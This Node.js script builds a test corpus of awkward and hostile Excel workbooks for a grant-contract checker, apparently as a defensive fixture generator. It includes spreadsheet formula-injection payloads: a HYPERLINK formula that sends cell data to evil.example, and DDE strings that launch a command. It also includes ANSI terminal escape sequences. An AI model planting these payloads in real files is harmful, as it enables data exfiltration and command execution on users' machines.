#!/usr/bin/env node
/**
 * Writes the hostile-input corpus into tests/hostile/corpus/: contract-shaped workbooks that
 * people (or their other programs) really produce and that are awkward to check — empty, merged
 * headers, error values, dates, hidden parts, a sheet under both names, the header twice, cells
 * at Excel's 32,767-character limit, emoji and right-to-left text, numbers with units, terminal
 * control characters — plus a workbook that claims a million rows.
 *
 * Not here, on purpose:
 * - reader-level hostile files (not a zip, truncated, OLE2-encrypted, .xls/.csv/.ods renamed,
 *   zip bombs): tests/fixtures/reader/, made by scripts/make-reader-fixtures.js;
 * - big files (a million real rows, gigabyte bombs): tests/hostile/generate.ts makes them at
 *   test time, so the repository stays small.
 *
 * Run: node scripts/make-hostile-corpus.js. Each file stays under 200 KB; the output is
 * deterministic (fixed dates), so re-running it leaves git clean.
 */
"use strict";
const fs = require("fs");
const path = require("path");
const ExcelJS = require("exceljs");
const { strFromU8, strToU8, unzipSync, zipSync } = require("fflate");

const OUT = path.join(__dirname, "..", "tests", "hostile", "corpus");
const FIXED_DATE = new Date(Date.UTC(2026, 0, 1));
/** Excel's limit for the text of one cell. */
const MAX_CELL = 32767;

function write(name, bytes) {
  fs.writeFileSync(path.join(OUT, name), bytes);
  const size = fs.statSync(path.join(OUT, name)).size;
  if (size > 200 * 1024) throw new Error(`${name} is ${size} bytes, over the 200 KB corpus limit`);
  console.log(`${name.padEnd(32)} ${size} bytes`);
}

// ---------------------------------------------------------------------------------------------
// A clean contract workbook (the engine tests' defaults), as rows.

const PLAN = [
  ["計畫名稱", "智慧製造產學技術聯盟"],
  ["計畫主持人", "王大明"],
  ["執行機構", "國立範例大學"],
  ["計畫年度", 115],
  ["計畫期別", 1],
  ["期別年次", 2],
  ["申請補助款", 2000000],
  ["主持人歷年執行年度", "114"],
];
const BUDGET_HEADERS = ["科目", "項目", "說明", "人員類別", "學歷", "姓名", "單價", "數量", "月數", "金額", "經費來源"];
const BUDGET = [
  ["人事費", "專任技術經理", null, "專任技術經理", "碩士", "陳一", 50000, 1, 12, 600000, null],
  ["人事費", "專任行銷經理", null, "專任行銷經理", "學士", "林二", 40000, 1, 12, 480000, null],
  ["人事費", "博士生兼任助理", null, "博士生兼任助理", null, "張三", 16000, 1, 12, 192000, null],
  ["業務費", "技術推廣說明會", "專利技術推廣說明會場地", null, null, null, 50000, 4, null, 200000, null],
  ["業務費", "耗材", null, null, null, null, null, null, null, 206000, null],
  ["研究設備費", "網站伺服器", "聯盟網站主機", null, null, null, 80000, 1, null, 80000, null],
  ["管理費", "管理費", null, null, null, null, null, null, null, 242000, null],
];
const MEMBER_HEADERS = ["廠商名稱", "統一編號", "國別", "組織類型", "企業規模", "實收資本額", "員工人數", "會員等級", "年費", "入會年度"];
const MEMBERS = [
  ["甲科技股份有限公司", "04595257", null, "公司", "大型企業", null, null, null, 50000, 114],
  ["乙精密有限公司", "22099131", null, null, "中小企業", null, null, null, 30000, 114],
  ["丙農場", null, null, "農漁民", null, null, null, null, 10000, 115],
  ["Nippon Devices", null, "日本", "外國公司", null, null, null, null, 30000, 115],
];
const INCOME_HEADERS = ["年度", "收入類別", "廠商名稱", "統一編號", "金額", "收款日期", "說明"];
const INCOME = [
  [114, "會員費", "甲科技股份有限公司", null, 50000, null, null],
  [115, "會員費", "甲科技股份有限公司", "04595257", 50000, null, null],
  [115, "技術服務", "乙精密有限公司", null, 900000, null, null],
  [115, "產學合作", null, null, 300000, null, null],
];

function newWorkbook() {
  const workbook = new ExcelJS.Workbook();
  workbook.creator = "hostile corpus";
  workbook.created = FIXED_DATE;
  workbook.modified = FIXED_DATE;
  return workbook;
}

function addRows(sheet, rows, firstRow = 1) {
  rows.forEach((row, i) => {
    row.forEach((value, c) => {
      if (value !== null && value !== undefined) sheet.getCell(firstRow + i, c + 1).value = value;
    });
  });
}

/**
 * The clean contract workbook; `edit` may change the rows before they are written:
 * `{ plan, budget, members, income }` (arrays of rows) and `sheets` (name per kind).
 */
function contractWorkbook(edit = {}) {
  const workbook = newWorkbook();
  const names = { plan: "計畫資訊", budget: "經費表", members: "會員名單", income: "營運收入", ...(edit.names ?? {}) };
  const plan = workbook.addWorksheet(names.plan);
  addRows(plan, edit.plan ?? PLAN);
  const budget = workbook.addWorksheet(names.budget);
  addRows(budget, [BUDGET_HEADERS, ...(edit.budget ?? BUDGET)]);
  const members = workbook.addWorksheet(names.members);
  addRows(members, [MEMBER_HEADERS, ...(edit.members ?? MEMBERS)]);
  const income = workbook.addWorksheet(names.income);
  addRows(income, [INCOME_HEADERS, ...(edit.income ?? INCOME)]);
  return workbook;
}

/** ExcelJS stamps zip entries with the time of writing: re-zipped with a fixed one, the corpus is reproducible. */
async function bytesOf(workbook) {
  return patchZip(Buffer.from(await workbook.xlsx.writeBuffer()), () => {});
}

/** Rewrites text parts of a package (ExcelJS cannot write some things people's files hold). */
function patchZip(data, patch) {
  const files = {};
  for (const [name, bytes] of Object.entries(unzipSync(new Uint8Array(data)))) {
    files[name] = /\.(xml|rels)$/.test(name) ? strFromU8(bytes) : bytes;
  }
  patch(files);
  const out = {};
  for (const [name, value] of Object.entries(files)) out[name] = typeof value === "string" ? strToU8(value) : value;
  return Buffer.from(zipSync(out, { mtime: FIXED_DATE }));
}

/** The part name of the n-th worksheet ExcelJS wrote (1-based). */
const sheetPart = (n) => `xl/worksheets/sheet${n}.xml`;

// ---------------------------------------------------------------------------------------------
// The corpus

/** One sheet, no values at all: what File > New gives. */
async function emptyWorkbook() {
  const workbook = newWorkbook();
  workbook.addWorksheet("Sheet1");
  return bytesOf(workbook);
}

/** The four contract sheets by name, each empty. */
async function emptyContractSheets() {
  const workbook = newWorkbook();
  for (const name of ["計畫資訊", "經費表", "會員名單", "營運收入"]) workbook.addWorksheet(name);
  return bytesOf(workbook);
}

/** A workbook part with no sheets at all (Excel never writes one; other tools can). */
function noSheets() {
  const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
  return Buffer.from(
    zipSync(
      {
        "[Content_Types].xml": strToU8(
          `${head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
        ),
        "_rels/.rels": strToU8(
          `${head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
        ),
        "xl/workbook.xml": strToU8(
          `${head}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>`,
        ),
      },
      { mtime: FIXED_DATE },
    ),
  );
}

/**
 * Every worksheet claims A1:XFD1048576 in <dimension>, and the budget has an empty but styled
 * row 1,048,576 (what Ctrl+↓ and a fill colour leave behind). Nothing real is that big.
 */
async function millionRowsClaimed() {
  const data = await bytesOf(contractWorkbook());
  return patchZip(data, (files) => {
    for (let n = 1; n <= 4; n += 1) {
      files[sheetPart(n)] = files[sheetPart(n)].replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>');
    }
    files[sheetPart(2)] = files[sheetPart(2)].replace(
      "</sheetData>",
      '<row r="1048576" spans="1:11" customFormat="1" s="0"><c r="A1048576" s="0"/><c r="K1048576" s="0"/></row></sheetData>',
    );
  });
}

/**
 * Values in the last cells of the grid (a stray keystroke after Ctrl+↓ / Ctrl+→): the budget's
 * used range then really spans 1,048,576 rows, and the members' 16,384 columns.
 */
async function farCornerValues() {
  const data = await bytesOf(contractWorkbook());
  return patchZip(data, (files) => {
    files[sheetPart(2)] = files[sheetPart(2)].replace(
      "</sheetData>",
      '<row r="1048576"><c r="K1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
    );
    files[sheetPart(3)] = files[sheetPart(3)].replace(
      "</sheetData>",
      '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
    );
  });
}

/**
 * A budget under a merged title, with each header cell merged down over two rows (as forms
 * made for printing have them), data from row 4 and an underpaid PhD line at row 6: findings
 * must point at the real cells below the merges.
 */
async function mergedHeaders() {
  const workbook = contractWorkbook();
  workbook.removeWorksheet(workbook.getWorksheet("經費表").id);
  const budget = workbook.addWorksheet("經費表");
  budget.getCell("A1").value = "115年度 經費預算表";
  budget.mergeCells("A1:K1");
  addRows(budget, [BUDGET_HEADERS], 2);
  for (let c = 0; c < BUDGET_HEADERS.length; c += 1) budget.mergeCells(2, c + 1, 3, c + 1);
  const lines = BUDGET.map((line) => (line[3] === "博士生兼任助理" ? [...line.slice(0, 6), 12000, 1, 12, 144000, null] : line));
  addRows(budget, lines, 4);
  // Tab order as people have it: plan, budget, members, income.
  budget.orderNo = 1;
  return bytesOf(workbook);
}

/** Cached error values where numbers belong: #DIV/0!, #REF!, #VALUE!, #N/A, #NAME?. */
async function formulaErrors() {
  const workbook = contractWorkbook();
  const budget = workbook.getWorksheet("經費表");
  budget.getCell("J2").value = { formula: "G2*H2*I2/0", result: { error: "#DIV/0!" } };
  budget.getCell("J3").value = { formula: "#REF!*12", result: { error: "#REF!" } };
  budget.getCell("G4").value = { formula: 'VALUE("一萬六")', result: { error: "#VALUE!" } };
  const plan = workbook.getWorksheet("計畫資訊");
  plan.getCell("B7").value = { formula: "VLOOKUP(1,Z1:Z2,2,FALSE)", result: { error: "#N/A" } };
  const members = workbook.getWorksheet("會員名單");
  members.getCell("I2").value = { formula: "年費表", result: { error: "#NAME?" } };
  const income = workbook.getWorksheet("營運收入");
  income.getCell("E4").value = { error: "#NUM!" };
  return bytesOf(workbook);
}

/**
 * Dates as Excel stores them (serial numbers under a date format) and as people type them
 * (text): 收款日期 both ways, 入會年度 as a date, 年度 as "2026/1/1" text, and the plan's
 * 計畫年度 as a real date shown as a year.
 */
async function dates() {
  const workbook = contractWorkbook();
  const income = workbook.getWorksheet("營運收入");
  income.getCell("F2").value = new Date(Date.UTC(2025, 2, 15));
  income.getCell("F2").numFmt = "yyyy/mm/dd";
  income.getCell("F3").value = "2026/03/01";
  income.getCell("F4").value = "115/03/01";
  income.getCell("F5").value = 46082; // a serial with no date format: just a number
  income.getCell("A5").value = "2026/1/1";
  const members = workbook.getWorksheet("會員名單");
  members.getCell("J2").value = new Date(Date.UTC(2025, 0, 1));
  members.getCell("J2").numFmt = "yyyy";
  members.getCell("J3").value = "114年";
  const plan = workbook.getWorksheet("計畫資訊");
  plan.getCell("B4").value = new Date(Date.UTC(2026, 0, 1));
  plan.getCell("B4").numFmt = "yyyy";
  return bytesOf(workbook);
}

/** The budget sheet hidden, members very hidden, and hidden rows holding mistakes. */
async function hidden() {
  const workbook = contractWorkbook({
    budget: [...BUDGET.slice(0, 2), ["人事費", "博士生兼任助理", null, "博士生兼任助理", null, "張三", 12000, 1, 12, 144000, null], ...BUDGET.slice(3)],
  });
  const budget = workbook.getWorksheet("經費表");
  budget.state = "hidden";
  budget.getRow(4).hidden = true; // the underpaid PhD line
  const members = workbook.getWorksheet("會員名單");
  members.state = "veryHidden";
  addRows(members, [["某研究院", null, null, "研究法人", null, null, null, null, 0, 115]], 6);
  members.getRow(6).hidden = true;
  members.getColumn(2).hidden = true; // 統一編號
  return bytesOf(workbook);
}

/**
 * The budget twice: an English copy named Budget (with a mistake) first in the tab order, then
 * the canonical 經費表 (clean). The contract's canonical zh-TW sheet is the one checked.
 */
async function sameSheetTwice() {
  const workbook = contractWorkbook();
  const english = workbook.addWorksheet("Budget");
  const wrong = BUDGET.map((line) => (line[3] === "博士生兼任助理" ? [...line.slice(0, 6), 9000, 1, 12, 108000, null] : line));
  addRows(english, [BUDGET_HEADERS, ...wrong]);
  english.orderNo = 0;
  return bytesOf(workbook);
}

/** The header row twice in a row on the budget, and again halfway down the members. */
async function headerTwice() {
  const workbook = contractWorkbook({ budget: [BUDGET_HEADERS, ...BUDGET], members: [...MEMBERS.slice(0, 2), MEMBER_HEADERS, ...MEMBERS.slice(2)] });
  return bytesOf(workbook);
}

/** Text of exactly `length` UTF-16 code units, built from `pieces`, not ending inside a pair. */
function longText(length, pieces) {
  let text = "";
  for (let i = 0; text.length < length; i += 1) text += pieces[i % pieces.length];
  text = text.slice(0, length);
  if (/[\ud800-\udbff]$/.test(text)) text = `${text.slice(0, -1)}X`;
  return text;
}

/**
 * Cells at Excel's limit of 32,767 characters where the checks quote what they find: an item
 * (a research item, quoted), a staff type and an organisation type outside the vocabulary,
 * a company name. A message that quotes such a value must still fit in one cell.
 */
async function longCells() {
  const item = longText(MAX_CELL, ["實驗儀器 ", "😀", "مرحبا ", "lab equipment ", "=1+1 "]);
  const staff = longText(MAX_CELL, ["專任工程師", "👩‍🔬", " שלום "]);
  const org = longText(MAX_CELL, ["協會", "🏢", "جمعية "]);
  const name = longText(MAX_CELL, ["某某股份有限公司", "🚀", " עברית "]);
  const workbook = contractWorkbook({
    budget: [
      ...BUDGET.slice(0, 3),
      ["業務費", item, item, null, null, null, 10000, 1, null, 10000, null],
      ["人事費", "工程師", null, staff, null, "李四", 40000, 1, 12, 480000, null],
      ...BUDGET.slice(3),
    ],
    members: [...MEMBERS, [name, null, null, org, null, null, null, null, 10000, 115]],
  });
  return bytesOf(workbook);
}

/**
 * Emoji (with joiners and skin tones), Hebrew and Arabic, and bidirectional controls (U+202E
 * RIGHT-TO-LEFT OVERRIDE, U+2066…U+2069 isolates) in names, items and vocabulary values.
 */
async function emojiRtl() {
  const workbook = contractWorkbook({
    plan: PLAN.map(([label, value]) => [label, label === "計畫名稱" ? "🤖 智慧製造聯盟 مرحبا ‮olleh‬" : value]),
    budget: [
      ...BUDGET.slice(0, 5),
      ["業務費", "👩🏽‍💻 推廣活動 שלום", "⁦עברית⁩ description", null, null, null, 1000, 1, null, 1000, null],
      ["業務費", "耗材", null, null, null, null, null, null, null, 1000, "自籌 😀"],
      ...BUDGET.slice(5),
    ],
    members: [
      ...MEMBERS,
      ["شركة 🐫 العربية", null, "السعودية", "外國公司", null, null, null, null, 20000, 115],
      ["‮司公限有份股技科‬", "04595257", null, "公司", null, null, null, null, 20000, 115],
    ],
  });
  return bytesOf(workbook);
}

/**
 * Numbers as people type them: with spaces, units and currency signs, full-width digits, other
 * scripts' digits, thousands separators of other locales and a unit (萬) that changes the value.
 * The contract accepts a few; the rest must be NOT-NUMBER findings, never a guess.
 */
const NUMBER_TEXTS = [
  "1,234",
  "NT$1,234",
  "＄1,234",
  "1,234元",
  "１２３４",
  "1 234",
  "NT$ 1,234",
  "1,234 元",
  "12萬",
  "1.2k",
  "USD 100",
  "(1,234)",
  "1.234,56",
  "٣٤٥",
  "−500",
  "1e3",
  "約 1000",
  "1,000-2,000",
];

async function numbersWithUnits() {
  const lines = NUMBER_TEXTS.map((text, i) => ["業務費", `項目 ${i + 1}`, text, null, null, null, null, null, null, text, null]);
  const workbook = contractWorkbook({ budget: [...BUDGET, ...lines] });
  return bytesOf(workbook);
}

/**
 * Text a terminal would act on (ANSI escape sequences that erase lines or set the window
 * title, a bell, backspaces, an 8-bit CSI) in values the report quotes. XML cannot carry C0
 * control characters, so Excel stores them as _xHHHH_ escapes: ExcelJS drops them, and the
 * escapes are put in afterwards.
 */
async function controlCharacters() {
  const workbook = contractWorkbook({
    budget: [...BUDGET.slice(0, 5), ["業務費", "耗材{ESC}[2J{ESC}[31m紅字", null, null, null, null, null, null, null, "12{ESC}]0;pwned{BEL}", null], ...BUDGET.slice(5)],
    members: [...MEMBERS, ["惡意{ESC}[1A{ESC}[2K公司{BS}{BS}\u009b31m", "1234567", null, "公司", null, null, null, null, 1000, 115]],
  });
  return patchZip(await bytesOf(workbook), (files) => {
    files["xl/sharedStrings.xml"] = files["xl/sharedStrings.xml"].replace(/\{ESC\}/g, "_x001B_").replace(/\{BEL\}/g, "_x0007_").replace(/\{BS\}/g, "_x0008_");
  });
}

/** Text that a spreadsheet would run as a formula, in every place the product copies text from. */
const INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];

async function formulaText() {
  const workbook = contractWorkbook({
    plan: PLAN.map(([label, value]) => [label, label === "計畫名稱" ? INJECTIONS[0] : label === "計畫主持人" ? INJECTIONS[3] : value]),
    budget: [...BUDGET.slice(0, 5), ...INJECTIONS.map((text) => ["業務費", text, text, text, null, null, null, null, null, 1000, text]), ...BUDGET.slice(5)],
    members: [...MEMBERS, ...INJECTIONS.map((text) => [text, text, text, text, null, null, null, null, 1000, 115])],
    income: [...INCOME, ...INJECTIONS.map((text) => [115, text, text, null, 1000, null, text])],
  });
  return bytesOf(workbook);
}

async function main() {
  fs.mkdirSync(OUT, { recursive: true });
  write("empty-workbook.xlsx", await emptyWorkbook());
  write("empty-contract-sheets.xlsx", await emptyContractSheets());
  write("no-sheets.xlsx", noSheets());
  write("million-rows-claimed.xlsx", await millionRowsClaimed());
  write("far-corner-values.xlsx", await farCornerValues());
  write("merged-headers.xlsx", await mergedHeaders());
  write("formula-errors.xlsx", await formulaErrors());
  write("dates.xlsx", await dates());
  write("hidden.xlsx", await hidden());
  write("same-sheet-twice.xlsx", await sameSheetTwice());
  write("header-twice.xlsx", await headerTwice());
  write("long-cells.xlsx", await longCells());
  write("emoji-rtl.xlsx", await emojiRtl());
  write("numbers-with-units.xlsx", await numbersWithUnits());
  write("control-characters.xlsx", await controlCharacters());
  write("formula-text.xlsx", await formulaText());
}

module.exports = { NUMBER_TEXTS, INJECTIONS, MAX_CELL };

if (require.main === module) {
  main().catch((error) => {
    console.error(error);
    process.exit(1);
  });
}
